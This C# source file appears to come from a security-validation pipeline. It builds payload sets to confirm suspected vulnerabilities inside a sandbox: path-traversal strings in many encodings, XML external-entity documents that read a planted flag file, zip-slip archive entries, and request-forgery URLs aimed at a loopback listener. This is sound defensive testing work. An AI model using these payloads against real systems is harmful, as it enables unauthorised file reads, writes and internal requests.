using System.Globalization;
using System.Text.Json;
using CodexSecurity.Analysis.Results;
using CodexSecurity.Pipeline.Validation.Evidence;
using CodexSecurity.Pipeline.Validation.Judging;
using CodexSecurity.Pipeline.Validation.Planning;
using CodexSecurity.Pipeline.Validation.Running;

namespace CodexSecurity.Pipeline.Validation.Library.Payloads;

/// <summary>Paths that leave the root, in the known spellings.</summary>
internal static class PathForms
{
    private const string Up = "../../../../../../../../";

    public static IReadOnlyList<TextPayload> Of(string target, bool wide)
    {
        TextPayload[] usual = [new("climbing path", Up + target), new("absolute path", "/" + target), new("climbing below the benign one", "{B}/" + Up + target), new("doubled dots", Up.Replace("../", "....//", StringComparison.Ordinal) + target)];
        TextPayload[] rare =
        [
            new("encoded dots", Up.Replace(".", "%2e", StringComparison.Ordinal) + target), new("encoded slashes", Up.Replace("/", "%2f", StringComparison.Ordinal) + target.Replace("/", "%2f", StringComparison.Ordinal)),
            new("slash first", "/" + Up + target), new("dot first", "./" + Up + target), new("backslashes", Up.Replace('/', '\\') + target), new("file address", "file:///" + target),
            new("twice encoded", Up.Replace(".", "%252e", StringComparison.Ordinal) + target), new("nested dots", Up.Replace("../", "..././", StringComparison.Ordinal) + target), new("four levels", "../../../../" + target),
        ];
        return wide ? [.. usual, .. rare] : usual;
    }
}

/// <summary>Files read outside the root: the content of a secret file comes back.</summary>
public sealed class PathReadPayloads : TextKit
{
    private static readonly string[] Names = ["secret/flag", "secret/flag.txt", "secret/flag.json", "secret/flag.html", "secret/flag.js", "secret/index.html"];

    /// <inheritdoc />
    public override AttackClass Class => AttackClass.PathRead;

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of("secret");

    /// <inheritdoc />
    public override string Benign => "input.txt";

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> PayloadsFor(ValidationInput input, bool wide) =>
        NamedEndings.Of(input.Candidate) is null ? Payloads(wide) : [.. PathForms.Of(NamedEndings.Target, wide), .. Payloads(wide)];

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) => wide
        ? [.. PathForms.Of("secret/flag.txt", true), .. PathForms.Of("secret/flag", false), .. PathForms.Of("secret", false)]
        : PathForms.Of("secret/flag.txt", false);

    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job with { SecretFiles = [.. Names.Select(n => "/" + n)] };

    /// <inheritdoc />
    public override IReadOnlyList<string> Fired(ProofRun run, OracleReading reading) =>
        HarnessReport.Of(run) is not { } report ? []
            : [.. report.Cases.Where(c => JsonSerializer.Serialize(c, EvidenceJson.Options).Contains(run.Nonces.Secret, StringComparison.Ordinal)).Select(c => c.Tag)];
}

/// <summary>External entities: the same effect by an XML document.</summary>
public sealed class XmlPayloads : TextKit
{
    private static readonly TextPayload[] s_payloads =
    [
        new("external entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///secret/flag.txt\">]><r>&e;</r>"),
        new("external entity, plain path", "<!DOCTYPE r [<!ENTITY e SYSTEM \"/secret/flag.txt\">]><r>&e;</r>"),
        new("external entity in an attribute", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///secret/flag.txt\">]><r a=\"&e;\"/>"),
    ];

    /// <inheritdoc />
    public override AttackClass Class => AttackClass.Xml;

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of("secret");

    /// <inheritdoc />
    public override string Benign => "<r>benign</r>";

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) => s_payloads;

    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job with { SecretFiles = ["/secret/flag.txt"] };

    /// <inheritdoc />
    public override IReadOnlyList<string> Fired(ProofRun run, OracleReading reading) => new PathReadPayloads().Fired(run, reading);
}

/// <summary>Files made (or removed) outside the root: a file named by the nonce appears in (or vanishes from) a folder beside it.</summary>
public sealed class PathWritePayloads(bool removes) : TextKit
{
    private static readonly string[] RemoveWords = ["unlink", "rm", "rmdir", "remove", "del", "rename", "move"];

    /// <summary>The folder outside the root.</summary>
    public const string Folder = "/work/escape";

    /// <summary>Its file for a tag.</summary>
    public const string Target = "work/escape/csx" + Nonces.AttackMark + "{T}";

    /// <inheritdoc />
    public override AttackClass Class => AttackClass.PathWrite;

    /// <inheritdoc />
    public override bool Handles(ValidationInput input) => input.Class == Class && removes == RemoveWords.Any(w =>
        input.Candidate.SinkCallable[(input.Candidate.SinkCallable.LastIndexOf('.') + 1)..].StartsWith(w, StringComparison.OrdinalIgnoreCase));

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of(removes ? "removed" : "written");

    /// <inheritdoc />
    public override string Benign => removes ? "input.txt" : "output.txt";

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) => PathForms.Of(Target, wide);

    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job with
    {
        Files = [.. job.Files, new ProofFile("escape/keep", "kept"), .. removes ? tags.Select(t => new ProofFile(Target[5..].Replace("{T}", t, StringComparison.Ordinal), "victim")) : []],
        Outputs = [.. job.Outputs, Folder],
    };
}

/// <summary>Archives whose entries leave the target folder.</summary>
public sealed class ArchivePayloads : IPayloadKit
{
    private static readonly string[] Forms = ["zip", "tar", "tgz", "zip-buffer", "tar-stream", "tgz-stream", "tar-buffer", "zip-stream"], Fed = ["zip-buffer", "tar-buffer", "tgz-buffer"];

    /// <inheritdoc />
    public AttackClass Class => AttackClass.Archive;

    /// <inheritdoc />
    public bool Handles(ValidationInput input) => input.Class == Class;

    /// <inheritdoc />
    public OracleSpec Oracle => OracleSpec.Of("written");

    /// <inheritdoc />
    public IReadOnlyList<PayloadCase> Cases(ValidationInput input, CallPlan plan, bool wide, string series)
    {
        var cases = new List<PayloadCase>();
        foreach (var source in input.Candidate.Inputs.Take(2).SelectMany(i => Places(plan, i)))
        {
            var whole = source with { AccessPath = [] };
            foreach (string form in Forms) Add(form, archive => Placer.Place(plan, whole, archive));
        }

        // Readers of archives are streams as well, into which an archive is piped.
        foreach (string form in Fed) Add(form, archive => new PlacedCall(plan.Args, plan.Access, archive));
        return cases;

        void Add(string form, Func<JsValue, PlacedCall?> place)
        {
            foreach (var entry in PathForms.Of(PathWritePayloads.Target, false).Take(2))
            {
                string tag = $"{series}{cases.Count + 1}";
                JsValue Archive(string name) => new("archive", form, [new JsProperty("benign.txt", JsValue.String("benign")), new JsProperty(name, JsValue.String("csx"))]);
                if (place(Archive(entry.Build("benign", tag))) is { } call && place(Archive("folder/benign2.txt")) is { } control)
                    cases.Add(new PayloadCase(tag, $"{form} with {entry.Strategy}{(call.Feed is null ? "" : ", piped in")}", call, control));
            }
        }
    }

    // An archive is read by whoever is called: it is an argument, mostly the first, of the function or of what makes its object.
    private static IEnumerable<TaintedInput> Places(CallPlan plan, TaintedInput source)
    {
        if (Placer.ValueAt(plan, source with { AccessPath = [] }) is not null) return [source];
        int made = plan.Access.Count(s => s.Kind != "property");
        return [.. Enumerable.Range(0, made).Reverse().Select(i => new TaintedInput(string.Create(CultureInfo.InvariantCulture, $"access{i}.arg0"), [], [])), new TaintedInput("arg0", [], []), new TaintedInput("arg1", [], [])];
    }

    /// <inheritdoc />
    public ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => new PathWritePayloads(false).Equip(job, tags);

    /// <inheritdoc />
    public HarnessInput Tune(HarnessInput input) => input with { Wait = input.Cases.Count > 1 ? 100 : 1000, Drain = 2500 };

    /// <inheritdoc />
    public IReadOnlyList<string> Fired(ProofRun run, OracleReading reading) => reading.Tags;
}

/// <summary>Requests to an address of the attacker's choice: a listener on the sandbox's own loopback.</summary>
public sealed class RequestPayloads : TextKit
{
    private const string Place = "127.0.0.1:8642/csx" + Nonces.AttackMark + "{T}";

    /// <inheritdoc />
    public override AttackClass Class => AttackClass.RequestForgery;

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of("request");

    /// <inheritdoc />
    public override string Benign => "http://127.0.0.1:8643/benign";

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) =>
    [
        new("address", "http://" + Place), new("host and path", Place), new("address without scheme", "//" + Place), new("user part", "@" + Place), new("user part after a name", "benign@" + Place),
        new("closing the host", Place + "?"), new("closing the host by a fragment", Place + "#"),
    ];

    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job with { Listeners = [new ProofListener(8642, "csx"), new ProofListener(8643, "benign")] };
}
